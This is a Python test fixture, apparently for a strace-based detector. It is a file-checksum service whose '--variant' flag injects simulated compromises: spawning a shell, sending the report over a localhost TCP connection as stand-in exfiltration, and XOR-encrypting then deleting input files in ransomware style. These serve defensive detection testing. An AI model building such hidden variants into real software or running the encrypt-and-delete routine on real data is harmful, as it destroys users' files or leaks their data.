"""A tiny file-processing service, recorded under strace by ``tests/test_real_program.py``.

Normal behaviour: list the input folder, read every ``*.dat`` file in chunks, compute its sha256
and size, and write a JSON report plus an append-only log line. The inputs differ per run (the
test generates a different number and size of files), so benign runs are not byte-identical.

``--variant`` injects one malicious behaviour after the normal work, the way a compromised build
of the same program would:

- ``shell``: spawn ``/bin/sh -c id`` (a spawned shell);
- ``connect``: open a TCP connection to ``--port`` on 127.0.0.1 and send the report (a reverse
  connection / exfiltration);
- ``encrypt``: "encrypt" every input file: read it, write ``NAME.enc`` (XOR), unlink the original
  (ransomware-style mass file encryption).

Everything is imported up front in every variant, so the difference between runs is behaviour,
not interpreter start-up noise from imports.
"""

from __future__ import annotations

import argparse
import hashlib
import json
import os
import socket
import subprocess
import sys

CHUNK = 4096


def checksum(path: str) -> tuple[str, int]:
    h = hashlib.sha256()
    size = 0
    with open(path, "rb") as f:
        while block := f.read(CHUNK):
            h.update(block)
            size += len(block)
    return h.hexdigest(), size


def process(folder: str) -> dict[str, dict[str, object]]:
    report: dict[str, dict[str, object]] = {}
    for name in sorted(os.listdir(folder)):
        if not name.endswith(".dat"):
            continue
        digest, size = checksum(os.path.join(folder, name))
        report[name] = {"sha256": digest, "bytes": size}
    return report


def spawn_shell() -> None:
    subprocess.run(["/bin/sh", "-c", "id"], stdout=subprocess.DEVNULL, check=False)


def reverse_connect(port: int, payload: bytes) -> None:
    with socket.create_connection(("127.0.0.1", port), timeout=5) as s:
        s.sendall(payload)


def encrypt_all(folder: str) -> None:
    key = 0x5A
    for name in sorted(os.listdir(folder)):
        if not name.endswith(".dat"):
            continue
        path = os.path.join(folder, name)
        with open(path, "rb") as f:
            data = f.read()
        with open(path + ".enc", "wb") as f:
            f.write(bytes(b ^ key for b in data))
        os.unlink(path)


def main() -> int:
    ap = argparse.ArgumentParser()
    ap.add_argument("folder")
    ap.add_argument("--variant", choices=["none", "shell", "connect", "encrypt"], default="none")
    ap.add_argument("--port", type=int, default=0)
    args = ap.parse_args()
    report = process(args.folder)
    body = json.dumps(report, sort_keys=True).encode()
    with open(os.path.join(args.folder, "report.json"), "wb") as f:
        f.write(body)
    with open(os.path.join(args.folder, "service.log"), "a") as log:
        log.write(f"processed {len(report)} files\n")
    if args.variant == "shell":
        spawn_shell()
    elif args.variant == "connect":
        reverse_connect(args.port, body)
    elif args.variant == "encrypt":
        encrypt_all(args.folder)
    sys.stdout.write(f"{len(report)} files\n")
    return 0


if __name__ == "__main__":
    sys.exit(main())
